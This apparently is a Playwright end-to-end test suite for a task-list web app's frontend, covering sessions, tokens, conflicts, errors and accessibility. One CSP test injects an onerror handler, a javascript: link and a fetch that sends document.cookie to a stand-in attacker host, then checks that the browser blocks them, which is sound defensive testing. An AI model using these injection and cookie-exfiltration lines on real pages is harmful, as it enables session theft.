"""The frontend in a real browser: two people, their tasks, and what goes wrong on the way."""

import json
import re
import subprocess
from base64 import urlsafe_b64decode
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import psycopg2
import pytest
from playwright.sync_api import Route, expect

from backend import database
from tests.conftest import SECRET
from tests.frontend import (
    LISTS,
    PASSWORD,
    PHONE,
    PICTURES,
    Site,
    add,
    answers,
    api_of,
    assert_accessible,
    done,
    either_kind_of_token,
    held,
    picture,
    session_of,
    start,
    task,
    without_events,
)
from tests.project import free_port, wait_until


def unfit(route: Route) -> None:
    """Make a change one that the API refuses."""
    if route.request.method in ("POST", "PATCH"):
        route.continue_(post_data='{"title": ""}')
    else:
        route.fallback()


@either_kind_of_token
def test_two_people_each_have_their_own_tasks(site: Site) -> None:
    with site.newcomer("Ann") as ann, site.newcomer("Bob") as bob:
        for page, name in ((ann, "Ann"), (bob, "Bob")):
            add(page, f"{name}'s first")
            add(page, f"{name}'s second")
            done(page, f"{name}'s first").click()
            expect(done(page, f"{name}'s first")).to_be_checked()
        for page, name, other in ((ann, "Ann", "Bob"), (bob, "Bob", "Ann")):
            page.reload()
            expect(done(page, f"{name}'s first")).to_be_checked()
            expect(done(page, f"{name}'s second")).not_to_be_checked()
            expect(page.get_by_text(other)).to_have_count(0)
        with api_of(ann, site) as api:
            assert api.get("/api/me").json()["name"] == "Ann"
            [header, *_] = api.headers["Authorization"].removeprefix("Bearer ").split(".")
            assert json.loads(urlsafe_b64decode(header + "=="))["alg"] == site.algorithm


@either_kind_of_token
def test_a_token_is_kept_in_memory_renewed_before_it_expires_and_once_when_it_is_refused(site: Site) -> None:
    with site.person() as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url) if "/auth/token" in request.url else None)
        page.clock.install()
        add(page, "With the first token")
        assert len(asked) == 0  # it has one since the list was shown
        page.clock.fast_forward("12:00")
        add(page, "With the second, though the first lives for three minutes yet")
        assert len(asked) == 1

        def refuse(route: Route) -> None:
            route.continue_(headers={**route.request.headers, "authorization": "Bearer expired"})

        page.route("**/api/tasks", refuse, times=1)
        add(page, "With the third, after a 401")
        assert len(asked) == 2
        storage = page.evaluate("JSON.stringify([localStorage, sessionStorage])")
        assert "eyJ" not in storage


def test_who_signs_out_is_out_and_can_come_back(site: Site) -> None:
    with site.person() as page:
        add(page, "Private")
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
        assert page.evaluate("fetch('/api/auth/token').then(answer => answer.status)") == 401
        page.goto(site.url)
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
        expect(page.get_by_text("Private")).to_have_count(0)


def test_a_session_that_ends_elsewhere_leads_to_the_sign_in_page(site: Site) -> None:
    with site.person() as page:
        page.context.clear_cookies()
        page.clock.install()
        page.clock.fast_forward("12:00")
        page.get_by_label("New task").fill("Too late")
        page.get_by_role("button", name="Add", exact=True).click()
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_who_could_not_be_signed_out_is_told_so(site: Site) -> None:
    with site.person() as page:
        page.route("**/api/auth/sign-out", lambda route: route.abort(), times=1)
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("alert").filter(has_text="You are still signed in")).to_be_visible()
        page.get_by_role("button", name="Try again").click()
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_a_page_runs_only_what_it_was_served_with_and_may_not_be_framed(site: Site) -> None:
    with site.person() as page:
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
        for path in ("/", "/nowhere"):
            page.goto(f"{site.url}{path}")
            expect(page.get_by_text("Better Tasks", exact=True)).to_be_visible()
        assert [text for text in refused if "404" not in text] == []
        violated = page.evaluate("""() => new Promise(resolve => {
            const violated = [];
            addEventListener("securitypolicyviolation", (event) => {
                violated.push(event.effectiveDirective);
                if (violated.length === 3) resolve(violated.sort());
            });
            document.body.insertAdjacentHTML("beforeend", `<img src=nowhere onerror="window.injected = 1">
                <a id=link href="javascript:window.injected = 2">A</a>`);
            document.getElementById("link").click();
            fetch("https://attacker.test/?" + document.cookie).catch(() => undefined);
        })""")
        assert violated == ["connect-src", "script-src-attr", "script-src-elem"]
        assert page.evaluate("window.injected") is None
    for path in ("/sign-in", "/icon.svg"):
        answer = httpx.get(f"{site.url}{path}")
        assert answer.status_code == 200
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Referrer-Policy"] == "no-referrer"


def test_a_page_that_cannot_be_made_says_so_and_comes_back(site: Site) -> None:
    with site.person() as page:
        add(page, "There")
        connection = psycopg2.connect(site.database_url)
        connection.autocommit = True
        connection.cursor().execute("ALTER TABLE session RENAME TO away")
        page.reload()
        expect(page.get_by_role("alert").filter(has_text="The server has a problem")).to_be_visible()
        connection.cursor().execute("ALTER TABLE away RENAME TO session")
        connection.close()
        page.get_by_role("button", name="Try again").click()
        expect(task(page, "There")).to_be_visible()


def test_who_cannot_sign_in_is_told_why_in_a_sentence(site: Site) -> None:
    with site.person() as page:
        page.get_by_role("button", name="Sign out").click()
        page.get_by_label("E-mail").fill("nobody@example.test")
        page.get_by_label("Password").fill("wrong horse battery")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert").filter(has_text="Invalid email or password")).to_be_visible()
        page.context.set_offline(True)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert").filter(has_text="You are offline.")).to_be_visible()
        page.context.set_offline(False)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert").filter(has_text="Invalid email or password")).to_be_visible()


def test_an_answer_that_got_lost_makes_no_second_task(site: Site) -> None:
    with site.person() as page:

        def lose(route: Route) -> None:
            route.fetch()
            route.abort()

        page.route("**/api/tasks", lose, times=1)
        page.get_by_label("New task").fill("Once")
        add(page, "Once")
        expect(task(page, "Once")).not_to_contain_text("not sent yet")
        page.reload()
        expect(page.locator(".title")).to_have_text(["Once"])


def test_a_change_that_is_refused_is_shown_at_once_and_taken_back(site: Site) -> None:
    with site.person() as page:
        add(page, "Refused")
        page.route("**/api/tasks/*", unfit)
        done(page, "Refused").click()
        expect(page.get_by_role("alert").filter(has_text="title must have")).to_be_visible()
        expect(done(page, "Refused")).not_to_be_checked()
        page.unroute("**/api/tasks/*")
        page.get_by_role("button", name="Try again").click()
        expect(done(page, "Refused")).to_be_checked()


def test_a_database_that_does_not_answer_is_told_of_in_the_api_s_own_sentence(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(database, "PREFIX", database.PREFIX.replace("10s", "500ms"))
    with site.person() as page:
        add(page, "There")
        connection = psycopg2.connect(site.database_url)
        connection.cursor().execute("LOCK TABLE task")
        page.reload()
        expect(page.get_by_role("alert").filter(has_text="The database does not answer.")).to_be_visible()
        connection.close()
        expect(task(page, "There")).to_be_visible()  # by itself
        expect(page.get_by_role("alert").filter(has_text="database")).to_have_count(0)


def test_a_page_never_shows_the_tasks_of_whoever_signed_in_beside_it(site: Site) -> None:
    with site.person() as page, site.person() as other:
        other.goto(f"{site.url}/today")
        add(other, "Of somebody else")
        page.context.clear_cookies()  # as after signing out, and in again as the other, in another tab
        page.context.add_cookies(other.context.cookies())  # type: ignore[arg-type]
        page.clock.install()
        page.clock.fast_forward("12:00")
        page.get_by_label("New task").fill("For my own list")
        page.get_by_role("button", name="Add", exact=True).click()
        expect(task(page, "Of somebody else")).to_be_visible()  # the other's whole page, at its beginning
        expect(page.get_by_label("New task")).to_have_value("")
        with api_of(other, site) as api:
            assert [each["title"] for each in api.get("/api/tasks").json()] == ["Of somebody else"]


def test_a_token_that_comes_after_its_person_has_left_is_not_the_next_one_s(site: Site) -> None:
    with site.person() as page, site.person() as other:
        add(page, "Of the first")
        email = session_of(other)["user"]["email"]
        answers: list[tuple[Route, Any]] = []
        page.route("**/api/auth/token", lambda route: answers.append((route, route.fetch())), times=1)
        page.reload()
        while not answers:
            page.wait_for_timeout(20)
        page.get_by_role("button", name="Sign out").click()
        page.get_by_label("E-mail").fill(email)
        [(route, answer)] = answers
        route.fulfill(response=answer)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_text("Nothing to do")).to_be_visible()
        add(page, "Of the second")
        with api_of(other, site) as api:
            assert [each["title"] for each in api.get("/api/tasks").json()] == ["Of the second"]


@either_kind_of_token
def test_an_api_that_refuses_every_token_is_told_of_and_not_asked_again_and_again(site: Site) -> None:
    with site.person() as page:
        asked: list[str] = []

        def spoil(route: Route) -> None:
            asked.append(urlsplit(route.request.url).path)
            route.continue_(headers={**route.request.headers, "authorization": "Bearer of.another.issuer"})

        page.route(f"{site.api_url}/**", spoil)
        page.reload()
        expect(page.get_by_role("alert").filter(has_text="token").first).to_be_visible()
        assert 1 <= asked.count("/api/tasks") <= 2
        assert asked.count("/api/tags") <= 2
        expect(page.get_by_role("heading", name="Sign in")).to_have_count(0)


def test_an_edit_changes_only_what_was_changed(site: Site) -> None:
    with site.person() as page, api_of(page, site) as api:
        # With seconds, and at an offset that is not the browser's.
        body = {"title": "Call", "due_date": "2030-01-14T09:00:30-08:00", "recurrence_rule": "FREQ=DAILY;COUNT=3"}
        api.post("/api/tasks", json=body).raise_for_status()
        [before] = api.get("/api/export").json()["tasks"]
        page.reload()
        page.get_by_role("button", name="Call", exact=True).click()
        page.get_by_role("combobox", name="Status").select_option("In progress")
        page.get_by_role("button", name="Save").click()
        expect(task(page, "Call")).to_contain_text("in progress")
        [after] = api.get("/api/export").json()["tasks"]
        changed = {name for name in before if before[name] != after[name]}
        assert changed == {"status", "version", "updated_at"}


@pytest.mark.parametrize("choice", ["Mine", "Theirs"])
def test_of_two_changes_at_once_a_person_chooses(site: Site, choice: str) -> None:
    with site.person() as page:
        add(page, "Draft")
        page.get_by_role("button", name="Draft", exact=True).click()
        with api_of(page, site) as other:
            [seen] = other.get("/api/tasks").json()
            other.patch(f"/api/tasks/{seen['id']}", json={"title": "Written elsewhere", "priority": "high"})
            page.get_by_label("Title").fill("Written here")
            page.get_by_role("button", name="Save").click()
            expect(page.get_by_text("title is now “Written elsewhere”, priority is now “high”")).to_be_visible()
            assert_accessible(page, site)
            picture(page, "app-conflict") if choice == "Mine" else None
            page.get_by_role("button", name=choice).click()
            title = {"Mine": "Written here", "Theirs": "Written elsewhere"}[choice]
            expect(task(page, title)).to_contain_text("high priority")  # which only the other one has changed
            expect(task(page, title)).to_be_visible()
            expect(page.get_by_role("alert").filter(has_text="changed meanwhile")).to_have_count(0)
            [now] = other.get("/api/tasks").json()
            assert now["title"] == title


def test_what_is_being_edited_stays_and_is_told_of_whatever_the_list_shows(site: Site) -> None:
    with site.person() as page, api_of(page, site) as other:
        add(page, "Draft")
        page.get_by_label("Completed too").uncheck()
        page.get_by_role("button", name="Draft", exact=True).click()
        page.get_by_label("Title").fill("Half an hour of typing")
        [seen] = other.get("/api/tasks").json()
        other.patch(f"/api/tasks/{seen['id']}", json={"status": "completed"}).raise_for_status()
        add(page, "Another")  # has the list fetched, which is without the first one now
        page.get_by_label("Sort").select_option("By title")
        expect(page.locator(".title")).to_have_text(["Another"])
        expect(page.get_by_label("Title")).to_have_value("Half an hour of typing")
        wait = held(page, "**/api/tasks/*", "PATCH")
        page.get_by_role("button", name="Save").click()
        go_on = wait()
        page.get_by_label("Search").fill("nothing")
        expect(task(page, "Another")).to_have_count(0)
        expect(page.get_by_role("button", name="Cancel")).to_be_disabled()
        go_on()
        expect(page.get_by_text("status is now “completed”")).to_be_visible()
        page.get_by_role("button", name="Keep mine").click()
        expect(page.get_by_text("No task is like that.")).to_be_visible()
        assert other.get(f"/api/tasks/{seen['id']}").json()["title"] == "Half an hour of typing"


def test_a_task_can_be_opened_while_it_is_being_completed(site: Site) -> None:
    with site.person() as page, api_of(page, site) as api:
        add(page, "Draft")
        wait = held(page, "**/api/tasks/*", "PATCH")
        done(page, "Draft").click()
        go_on = wait()
        page.get_by_role("button", name="Draft", exact=True).click()
        page.get_by_label("Title").fill("Final")
        expect(page.get_by_role("button", name="Save")).to_be_disabled()
        go_on()
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("button", name="Final", exact=True)).to_be_visible()
        expect(page.get_by_text("meanwhile")).to_have_count(0)
        [now] = api.get("/api/tasks").json()
        assert (now["title"], now["status"]) == ("Final", "completed")


def test_what_is_typed_while_a_task_is_added_stays(site: Site) -> None:
    with site.person() as page:
        wait = held(page, LISTS, "POST")
        page.get_by_label("New task").fill("First")
        page.keyboard.press("Enter")
        go_on = wait()
        page.keyboard.type("Second")
        go_on()
        expect(task(page, "First")).to_be_visible()
        expect(page.get_by_label("New task")).to_have_value("Second")
        page.keyboard.press("Enter")
        expect(page.locator(".title")).to_have_text(["Second", "First"])


def test_a_late_answer_does_not_take_the_focus_from_who_types_elsewhere(site: Site) -> None:
    with site.person() as page:
        add(page, "Neighbour")
        for title, method in (("Deleted", "DELETE"), ("Edited", "PATCH")):
            add(page, title)
            wait = held(page, "**/api/tasks/*", method)
            if method == "DELETE":
                page.get_by_label("Delete Deleted").click()
            else:
                page.get_by_role("button", name="Edited", exact=True).click()
                page.get_by_label("Title").fill("Edited well")
                page.keyboard.press("Enter")
            go_on = wait()
            page.get_by_label("New task").click()
            page.keyboard.type("Buy ")
            go_on()
            expect(page.get_by_role("button", name="Save")).to_have_count(0)
            expect(page.get_by_role("button", name="Deleted", exact=True)).to_have_count(0)
            page.keyboard.type("milk")
            expect(page.get_by_label("New task")).to_have_value("Buy milk")
            page.get_by_label("New task").fill("")


def test_trying_again_sends_what_the_form_says_by_now(site: Site) -> None:
    with site.person() as page, api_of(page, site) as other:
        add(page, "Draft")
        page.get_by_role("button", name="Draft", exact=True).click()
        page.route("**/api/tasks/*", unfit, times=1)
        page.get_by_label("Title").fill("First try")
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("button", name="Try again")).to_be_visible()
        page.get_by_label("Title").fill("Second, better text")
        page.get_by_role("button", name="Try again").click()
        expect(page.get_by_role("button", name="Second, better text", exact=True)).to_be_visible()
        assert [each["title"] for each in other.get("/api/tasks").json()] == ["Second, better text"]


def test_what_somebody_changed_and_changed_back_is_no_conflict(site: Site) -> None:
    with site.person() as page, api_of(page, site) as other:
        add(page, "Draft")
        page.get_by_role("button", name="Draft", exact=True).click()
        [seen] = other.get("/api/tasks").json()
        for priority in ("high", "medium"):
            other.patch(f"/api/tasks/{seen['id']}", json={"priority": priority}).raise_for_status()
        page.get_by_label("Title").fill("Final")
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("button", name="Final", exact=True)).to_be_visible()
        expect(page.get_by_text("meanwhile")).to_have_count(0)


def test_of_several_tasks_that_were_not_added_none_is_lost(site: Site) -> None:
    with site.person() as page:
        page.route(LISTS, unfit)
        for title in ("Alpha", "Beta"):
            page.get_by_label("New task").fill(title)
            page.keyboard.press("Enter")
            expect(page.get_by_role("alert").filter(has_text=f"“{title}” was not added.")).to_be_visible()
        page.unroute(LISTS)
        page.get_by_label("New task").fill("Gamma")
        for title in ("Alpha", "Beta", "Gamma", "Alpha"):  # each takes the place of the one before, which waits
            told = page.get_by_role("alert").filter(has_text=f"“{title}” was not added.")
            told.get_by_role("button", name="Edit").click()
            expect(page.get_by_label("New task")).to_have_value(title)
        page.keyboard.press("Enter")
        expect(task(page, "Alpha")).to_be_visible()
        for title in ("Beta", "Gamma"):
            told = page.get_by_role("alert").filter(has_text=f"“{title}” was not added.")
            told.get_by_role("button", name="Try again").click()
            expect(told).to_have_count(0)
            expect(task(page, title)).to_be_visible()
        expect(page.locator(".title")).to_have_text(["Gamma", "Beta", "Alpha"])


def test_a_task_that_was_not_added_can_be_mended(site: Site) -> None:
    with site.person() as page:
        page.get_by_label("New task").fill("Mend")
        page.get_by_role("button", name="More", exact=True).click()
        page.get_by_label("Tags, with commas").fill("x" * 51)
        page.get_by_role("button", name="Add", exact=True).click()
        expect(page.get_by_role("alert").filter(has_text="“Mend” was not added.")).to_be_visible()
        page.get_by_role("button", name="Edit", exact=True).click()
        page.get_by_label("Tags, with commas").fill("shorter")
        page.get_by_role("button", name="Less", exact=True).click()  # hides what was said, and does not unsay it
        page.get_by_role("button", name="Add", exact=True).click()
        expect(task(page, "Mend")).to_contain_text("shorter")
        expect(page.get_by_role("alert").filter(has_text="Mend")).to_have_count(0)


def test_the_list_is_as_the_api_has_it_whichever_of_several_changes_ends_last(site: Site) -> None:
    with site.person() as page:
        add(page, "Ticked")
        page.get_by_label("Completed too").uncheck()
        wait = held(page, LISTS, "POST")
        page.get_by_label("New task").fill("x")
        page.get_by_role("button", name="More", exact=True).click()
        page.get_by_label("Tags, with commas").fill("x" * 51)  # which the API refuses
        page.get_by_role("button", name="Add", exact=True).click()
        go_on = wait()
        done(page, "Ticked").click()
        expect(done(page, "Ticked")).to_be_checked()
        go_on()
        expect(page.get_by_role("alert").filter(has_text="“x” was not added.")).to_be_visible()
        expect(page.get_by_text("Nothing to do.")).to_be_visible()


@pytest.mark.parametrize("how", ["ticked", "deleted"])
def test_a_task_that_is_deleted_elsewhere_leaves_the_list(site: Site, how: str) -> None:
    with site.person() as page, api_of(page, site) as other:
        without_events(page)
        add(page, "Fleeting")
        [seen] = other.get("/api/tasks").json()
        other.delete(f"/api/tasks/{seen['id']}").raise_for_status()
        if how == "ticked":
            done(page, "Fleeting").click()
            expect(page.get_by_role("alert").filter(has_text="This task was deleted meanwhile.")).to_be_visible()
            page.get_by_role("button", name="Close").click()
        else:
            page.get_by_label("Delete Fleeting").click()
        expect(page.get_by_text("Nothing to do")).to_be_visible()


def test_a_task_that_is_changed_elsewhere_is_deleted_only_if_that_is_still_wanted(site: Site) -> None:
    with site.person() as page, api_of(page, site) as other:
        without_events(page)
        for title, answer in (("Kept", "Keep it"), ("Deleted", "Delete it")):
            add(page, title)
            [seen] = other.get("/api/tasks", params={"q": title}).json()
            other.patch(f"/api/tasks/{seen['id']}", json={"priority": "high"}).raise_for_status()
            page.get_by_label(f"Delete {title}").click()
            expect(task(page, title)).to_contain_text("changed meanwhile, and is not deleted")
            expect(task(page, title)).to_contain_text("high priority")
            page.get_by_role("button", name=answer).click()
        expect(page.locator(".title")).to_have_text(["Kept"])
        expect(page.get_by_role("alert").filter(has_text="meanwhile")).to_have_count(0)


def test_a_change_whose_answer_got_lost_is_no_conflict_with_oneself(site: Site) -> None:
    with site.person() as page:
        add(page, "Once")

        def lose(route: Route) -> None:
            route.fetch()
            route.abort()

        page.route("**/api/tasks/*", lose, times=1)
        done(page, "Once").click()
        expect(task(page, "Once")).not_to_contain_text("not sent yet")
        expect(done(page, "Once")).to_be_checked()
        expect(page.get_by_text("meanwhile")).to_have_count(0)


def test_all_that_a_task_has_can_be_said_and_changed(site: Site) -> None:
    with site.person() as page:
        page.get_by_role("button", name="More", exact=True).click()
        page.get_by_label("New task").fill("Pay the rent")
        page.get_by_label("Description").fill("To the new account")
        page.get_by_label("Priority").nth(0).select_option("high")
        page.get_by_label("Due on").fill("2030-01-14")
        page.get_by_label("At", exact=True).fill("09:00")
        page.get_by_label("Repeats").select_option("every week")
        page.get_by_label("Tags, with commas").fill("money, home, money")
        page.get_by_role("button", name="Add", exact=True).click()
        row = task(page, "Pay the rent")
        for text in (
            "To the new account",
            "high priority",
            "14 Jan 2030, 09:00",
            "repeats every week",
            "money",
            "home",
        ):
            expect(row).to_contain_text(text)
        page.get_by_role("link", name="Tags").click()
        page.get_by_label("Colour of money").fill("#3366ff")
        page.go_back()
        with api_of(page, site) as api:
            [made] = api.get("/api/tasks").json()
            assert made["due_date"] == "2030-01-14T08:00:00+00:00"
            assert made["tags"] == ["money", "home"]
            wait_until(lambda: {"name": "money", "color": "#3366ff", "tasks": 1} in api.get("/api/tags").json())
        done(page, "Pay the rent").first.click()
        expect(task(page, "Pay the rent")).to_have_count(2)
        expect(page.get_by_text("21 Jan 2030, 09:00")).to_be_visible()


def test_an_hour_that_the_clocks_leave_out_is_the_next_one(site: Site) -> None:
    with site.person() as page, api_of(page, site) as api:
        page.get_by_role("button", name="More", exact=True).click()
        page.get_by_label("New task").fill("Early")
        page.get_by_label("Due on").fill("2030-03-31")
        page.get_by_label("At", exact=True).fill("02:30")
        page.get_by_role("button", name="Add", exact=True).click()
        expect(task(page, "Early")).to_contain_text("31 Mar 2030, 03:30")
        assert api.get("/api/tasks").json()[0]["due_date"] == "2030-03-31T01:30:00+00:00"


def test_the_last_day_there_is_can_be_edited(site: Site) -> None:
    with site.person() as page, api_of(page, site) as api:
        for moment in ("9999-12-31T23:59:59Z", "9999-12-31T12:00:00Z"):
            api.post("/api/tasks", json={"title": moment[11:16], "due_date": moment}).raise_for_status()
        page.reload()
        for title in ("23:59", "12:00"):
            page.get_by_role("button", name=title, exact=True).click()
            page.get_by_label("Title").fill(f"At {title}")
            page.get_by_role("button", name="Save").click()
            expect(task(page, f"At {title}")).to_be_visible()
        assert {each["due_date"][:10] for each in api.get("/api/tasks").json()} == {"9999-12-31"}


def test_a_colour_is_sent_once_it_is_chosen(site: Site) -> None:
    with site.person() as page, api_of(page, site) as api:
        api.post("/api/tasks", json={"title": "Paint", "tags": ["wall"]}).raise_for_status()
        page.goto(f"{site.url}/tags")
        sent: list[str] = []
        page.on("request", lambda request: sent.append(request.url) if request.method == "PUT" else None)
        page.get_by_label("Colour of wall").evaluate("""(field) => {
            for (const shade of ["#100000", "#200000", "#300000"]) {
                field.value = shade;
                field.dispatchEvent(new Event("input", { bubbles: true }));
            }
            field.dispatchEvent(new Event("change", { bubbles: true }));
        }""")
        wait_until(lambda: api.get("/api/tags").json()[0]["color"] == "#300000")
        assert len(sent) == 1


def test_tasks_are_found_filtered_sorted_and_completed_ones_deleted(site: Site) -> None:
    with site.person() as page:
        with api_of(page, site) as api:
            tasks: dict[str, dict[str, object]] = {
                "Buy milk": {"priority": "low", "tags": ["shop"], "due_date": "2030-01-01T00:00:00Z"},
                "Weed": {"priority": "high", "tags": ["garden"]},
                "Done": {"status": "completed"},
            }
            for title, values in tasks.items():
                api.post("/api/tasks", json={"title": title, **values}).raise_for_status()
        page.reload()
        titles = page.locator(".title")
        expect(titles).to_have_text(["Done", "Weed", "Buy milk"])
        page.get_by_label("Sort").select_option("Due first")
        expect(titles).to_have_text(["Buy milk", re.compile("Weed|Done"), re.compile("Weed|Done")])
        page.get_by_label("Sort").select_option("Newest first")
        page.get_by_label("Priority", exact=True).select_option("high")
        expect(titles).to_have_text(["Weed"])
        page.get_by_label("Priority", exact=True).select_option("Any priority")
        page.get_by_role("link", name="garden").click()
        expect(titles).to_have_text(["Weed"])
        page.get_by_label("Search").fill("milk")
        expect(page.get_by_text("No task is like that.")).to_be_visible()
        page.go_back()
        page.get_by_label("Search").fill("milk")
        page.get_by_label("Priority", exact=True).select_option("low")  # before the search is sent
        expect(titles).to_have_text(["Buy milk"])
        expect(page).to_have_url(re.compile("priority=low&q=milk"))
        page.reload()  # a list is what its address says
        expect(titles).to_have_text(["Buy milk"])
        expect(page.get_by_label("Search")).to_have_value("milk")
        expect(page.get_by_label("Sort")).to_have_value("-created_at")
        page.get_by_role("link", name="Completed").click()
        expect(titles).to_have_text(["Done"])
        page.get_by_role("button", name="Delete completed").click()
        page.get_by_role("button", name="Keep them").click()
        expect(titles).to_have_count(1)
        page.get_by_role("button", name="Delete completed").click()
        page.get_by_role("button", name="Delete", exact=True).click()
        expect(page.get_by_text("Nothing is completed yet.")).to_be_visible()


def test_a_long_list_goes_on_as_it_is_scrolled(site: Site) -> None:
    with site.person() as page:
        with api_of(page, site) as api:
            for number in range(130):
                api.post("/api/tasks", json={"title": f"Task {number}"}).raise_for_status()
        page.reload()
        page.get_by_role("button", name="Task 129", exact=True).focus()
        reached = ["Task 129"]
        while reached[-1] != "Task 0":
            page.keyboard.press("j")
            focused = page.evaluate("document.activeElement.textContent")
            if focused != reached[-1]:
                reached.append(focused)
        assert reached == [f"Task {number}" for number in reversed(range(130))]
        expect(page.get_by_role("button", name="More tasks")).to_have_count(0)


def test_the_end_of_a_long_list_is_no_end_for_a_new_task(site: Site) -> None:
    with site.person(viewport={"width": 900, "height": 600}) as page, api_of(page, site) as api:
        for number in range(60):
            api.post("/api/tasks", json={"title": f"Task {number}"}).raise_for_status()
        page.reload()
        expect(task(page, "Task 59")).to_be_visible()
        wait = held(page, LISTS, "GET")
        page.get_by_label("New task").fill("New")
        page.keyboard.press("Enter")
        go_on = wait()  # the list, which is fetched anew
        page.mouse.wheel(0, 9000)
        expect(page.get_by_role("button", name="More tasks")).to_be_in_viewport()
        go_on()
        expect(task(page, "New")).to_have_count(1)
        expect(task(page, "New")).to_have_attribute("aria-setsize", "61")


def test_everything_can_be_done_with_the_keyboard(site: Site) -> None:
    with site.person() as page:
        keys = page.keyboard
        page.locator("body").press("n")
        keys.type("Typed")
        keys.press("Enter")
        expect(task(page, "Typed")).to_be_visible()
        expect(page.get_by_label("New task")).to_be_focused()
        done(page, "Typed").focus()
        keys.press("Space")
        expect(done(page, "Typed")).to_be_checked()
        expect(task(page, "Typed").locator(".completed")).to_have_count(1)
        expect(done(page, "Typed")).to_be_focused()
        keys.press("Tab")
        keys.press("Enter")
        expect(page.get_by_label("Title")).to_be_focused()
        keys.press("Control+a")
        keys.type("Typed again")
        page.evaluate("""document.activeElement.dispatchEvent(
            new KeyboardEvent("keydown", { key: "Escape", bubbles: true, isComposing: true }))""")
        expect(page.get_by_label("Title")).to_have_value("Typed again")  # an input method was cancelled, and no edit
        keys.press("Escape")
        expect(page.get_by_role("button", name="Typed", exact=True)).to_be_focused()
        keys.press("Enter")
        keys.press("Control+a")
        keys.type("Typed again")
        keys.press("Enter")
        expect(page.get_by_role("button", name="Typed again", exact=True)).to_be_focused()
        add(page, "Another")
        page.get_by_label("Delete Another").focus()
        keys.press("Enter")
        expect(page.get_by_role("button", name="Typed again", exact=True)).to_be_focused()
        page.get_by_role("link", name="Completed").focus()
        keys.press("Enter")
        page.get_by_role("button", name="Delete completed").focus()
        keys.press("Enter")
        expect(page.get_by_role("button", name="Keep them")).to_be_focused()
        keys.press("Escape")
        expect(page.get_by_role("button", name="Delete completed")).to_be_focused()
        keys.press("/")
        expect(page.get_by_label("Search")).to_be_focused()


# Each size and each scheme once; for the pictures, each with each.
@pytest.mark.parametrize(
    ("device", "scheme"),
    [("desktop", "light"), ("phone", "dark"), *([("desktop", "dark"), ("phone", "light")] if PICTURES else [])],
)
def test_the_app_is_readable_and_accessible_on_every_screen(site: Site, device: str, scheme: str) -> None:
    screen: dict[str, Any] = PHONE if device == "phone" else {"viewport": {"width": 900, "height": 760}}
    with site.person(color_scheme=scheme, **screen) as page:
        assert_accessible(page, site)
        picture(page, f"app-empty-{scheme}") if device == "desktop" else None
        with api_of(page, site) as api:
            for body in (
                {"title": "Read the release notes", "status": "completed"},
                {"title": "Weed the front garden", "tags": ["garden"], "priority": "low"},
                {"title": "Pay the rent", "due_date": "2030-01-31T09:00:00+01:00", "recurrence_rule": "FREQ=MONTHLY"},
                {"title": "Plan the summer", "description": "Ask everybody for their dates first.", "tags": ["family"]},
                {"title": "Book the train", "priority": "high", "tags": ["family", "travel"], "status": "in_progress"},
            ):
                api.post("/api/tasks", json=body).raise_for_status()
            for name, color in {"family": "#d9480f", "garden": "#2b8a3e", "travel": "#1971c2"}.items():
                api.put(f"/api/tags/{name}", json={"color": color}).raise_for_status()
        wait = held(page, LISTS, "GET")
        page.goto(f"{site.everything}&sort=title")  # a list that this browser has not kept
        go_on = wait()
        expect(page.get_by_role("status", name="Loading …")).to_be_visible()
        assert_accessible(page, site)
        go_on()
        expect(page.locator(".title")).to_have_count(5)
        expect(page.get_by_role("link", name="travel")).to_be_visible()
        assert_accessible(page, site)
        for view in ("Tags", "Upcoming", "All"):
            page.get_by_role("link", name=view).click()
            expect(page.get_by_role("heading", name=view, exact=True)).to_be_visible()
            expect(page.locator("[aria-busy=true]")).to_have_count(0)
            assert_accessible(page, site)
        page.get_by_role("button", name="Filter").click() if device == "phone" else None
        page.get_by_label("Completed too").check()
        page.get_by_role("button", name="Filter").click() if device == "phone" else None
        page.get_by_role("button", name="Plan the summer", exact=True).click()
        page.get_by_role("button", name="More", exact=True).click()
        assert_accessible(page, site)
        picture(page, f"app-edit-{scheme}") if device == "phone" else None
        page.get_by_text("History").click()
        expect(page.get_by_text("Created", exact=True)).to_be_visible()
        page.get_by_label("Delete Weed the front garden").click()
        expect(page.get_by_text("“Weed the front garden” was deleted.")).to_be_visible()
        page.context.set_offline(True)
        expect(page.get_by_text("Connection lost.")).to_be_visible()
        assert_accessible(page, site)
        width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
        assert width[0] <= width[1]
        page.context.set_offline(False)
        expect(page.get_by_text("Connection lost.")).to_have_count(0)
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
        assert_accessible(page, site)
        picture(page, f"sign-in-{scheme}") if device == "desktop" else None


def test_two_servers_that_start_at_once_make_the_tables_once(frontend: Path, empty_database: str) -> None:
    ports = [free_port(), free_port()]
    environment = {"DATABASE_URL": empty_database, "BETTER_AUTH_SECRET": SECRET}
    servers = [start(frontend, port, {**environment, "BETTER_AUTH_URL": f"http://localhost:{port}"}) for port in ports]
    try:
        wait_until(
            lambda: (
                any(each.poll() for each in servers)
                or all(answers(f"http://localhost:{port}/sign-in") for port in ports)
            )
        )
        assert [server.poll() for server in servers] == [None, None]
    finally:
        for server in servers:
            server.terminate()
            server.wait()


def test_a_server_without_a_database_says_so_and_ends(frontend: Path) -> None:
    url = f"postgresql://nobody@127.0.0.1:{free_port()}/nothing"
